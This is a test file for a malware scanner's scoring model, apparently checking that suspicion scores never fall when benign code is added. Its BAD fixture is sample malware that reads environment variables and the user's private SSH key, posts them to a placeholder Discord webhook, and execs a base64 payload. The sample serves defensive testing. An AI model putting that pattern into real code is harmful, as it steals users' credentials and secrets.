"""The shipped model: it only rises with suspicion, and nothing added ever lowers it."""

import json
import random

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scanner.analyzers.model import ModelAnalyzer, reasons, vectors
from scanner.analyzers.model.reading import read
from scanner.analyzers.model.trees import MOST_OF_WHOLE, Judge, shipped
from scanner.scoring.levels import Risk
from scanner.scoring.tuning import DEFAULT

BAD = """
import base64, os, requests, subprocess

def collect():
    body = {"env": dict(os.environ), "keys": open(os.path.expanduser("~/.ssh/id_rsa")).read()}
    requests.post("https://discord.com/api/webhooks/1/x", json=body)
    exec(base64.b64decode("cHJpbnQoMSk="))

collect()
"""
GOOD = (
    "import os\n\nDEBUG = os.environ.get('DEBUG')\n",
    "import requests\n\n\ndef weather():\n    return requests.get('https://api.invalid/').json()\n",
    "import subprocess\n\n\ndef build():\n    subprocess.run(['make'], check=True)\n",
    "const express = require('express');\nexpress().listen(process.env.PORT);\n",
    "def add(a, b):\n    return a + b\n",
)
INPUTS = shipped().parts.inputs
APPS = (BAD, BAD.partition("def collect")[0] + "print(os.environ)\n", *GOOD)
NAMES = [each.name for each in INPUTS]
values = st.dictionaries(st.sampled_from(NAMES), st.floats(0, 30, allow_nan=False), max_size=30)


def judged(tree):
    analyzer = ModelAnalyzer()
    assert list(analyzer.analyze(tree)) == []
    return analyzer.details


@pytest.mark.parametrize("model", [shipped().parts, shipped().whole], ids=["parts", "whole"])
@given(values, st.sampled_from(INPUTS), st.floats(0, 30))
def test_more_suspicion_never_lowers_the_number(model, vector, changed, more):
    now, before = dict(vector), vector.get(changed.name, 0.0)
    now[changed.name] = before + more

    difference = model.probability(now) - model.probability(vector)

    assert difference <= 1e-12 if changed.is_less else difference >= -1e-12


@given(st.sampled_from(APPS), st.lists(st.sampled_from(GOOD), max_size=6))
def test_added_files_never_lower_the_level(tmp_path_factory, app, added):
    tree = tmp_path_factory.mktemp("app")
    (tree / "app.py").write_text(app)
    before = judged(tree)["malicious"]
    for number, text in enumerate(added):
        (tree / f"good{number}.{'js' if 'require' in text else 'py'}").write_text(text)

    after = judged(tree)["malicious"]

    level_of = DEFAULT.cut_offs.level_of
    assert level_of(after).rank >= level_of(before).rank
    assert after >= before or before <= MOST_OF_WHOLE


def test_the_whole_is_never_enough_for_a_level():
    assert DEFAULT.cut_offs.level_of(MOST_OF_WHOLE) is Risk.LOW


def test_honest_code_around_it_does_not_hide_it(tmp_path):
    (tmp_path / "app.py").write_text(BAD)
    before = judged(tmp_path)["files"][0]["malicious"]
    padding = "".join(f"def add_{n}(a, b):\n    return a + b + {n}\n\n\n" for n in range(1500))
    (tmp_path / "app.py").write_text(padding + BAD + padding)

    assert len(padding) > 50_000
    assert judged(tmp_path)["files"][0]["malicious"] >= 0.95 * before


def test_a_thief_stands_out_from_ordinary_code(tmp_path):
    (tmp_path / "app.py").write_text(BAD)
    bad = judged(tmp_path)
    ordinary = tmp_path / "ordinary"
    ordinary.mkdir()
    for number, text in enumerate(GOOD):
        (ordinary / f"a{number}.{'js' if 'require' in text else 'py'}").write_text(text)

    assert bad["malicious"] >= 0.8
    usual = judged(ordinary)
    assert DEFAULT.cut_offs.level_of(usual["malicious"]) is Risk.LOW
    assert all(file["malicious"] < 0.3 for file in usual["files"])


def test_reasons_name_behaviours_and_lines(tmp_path):
    (tmp_path / "app.py").write_text(BAD)

    whole, function = [unit for unit in judged(tmp_path)["units"] if unit["path"]][:2]

    assert (whole["path"], whole["name"], function["name"]) == ("app.py", "", "collect")
    told = {reason["behaviour"]: reason for reason in whole["reasons"]}
    assert told
    for reason in told.values():
        assert reason["words"].startswith("It ")
        assert reason["share"] > 0
    with_lines = [reason for reason in told.values() if reason["lines"]]
    assert all(1 <= line <= 9 for reason in with_lines for line in reason["lines"])


def test_files_carry_what_a_later_version_is_compared_by(tmp_path):
    (tmp_path / "app.py").write_text(BAD)

    (file,) = judged(tmp_path)["files"]

    assert file["path"] == "app.py"
    assert len(file["sha256"]) == 64
    assert file["malicious"] == judged(tmp_path)["malicious"]


def test_it_is_deterministic(tmp_path):
    (tmp_path / "app.py").write_text(BAD)

    assert json.dumps(judged(tmp_path)) == json.dumps(judged(tmp_path))


def test_without_a_behaviour_its_pairs_are_gone_too(tmp_path):
    (tmp_path / "app.py").write_text(BAD)
    (file,) = read(tmp_path)

    rest = reasons.without(file.whole.vector, "net_out")

    assert not [name for name in rest if "net_out" in name]
    assert rest["nhits_max"] == file.whole.vector["nhits_max"] - 1


def test_a_model_of_another_format_is_refused():
    with pytest.raises(ValueError, match="format"):
        Judge.from_document({"format": 99})


def test_pooled_counts_and_keeps_the_largest():
    chance = random.Random(1)  # noqa: S311
    files = [{"net_out": 1.0, "nhits_max": float(chance.randint(1, 9))} for _ in range(5)]

    whole = vectors.pooled(files, size=2047)

    assert whole["net_out"] == 5
    assert whole["nhits_max"] == max(file["nhits_max"] for file in files)
    assert (whole["hot_per_kb"], whole["log_code"]) == (2.5012, 7.6246)
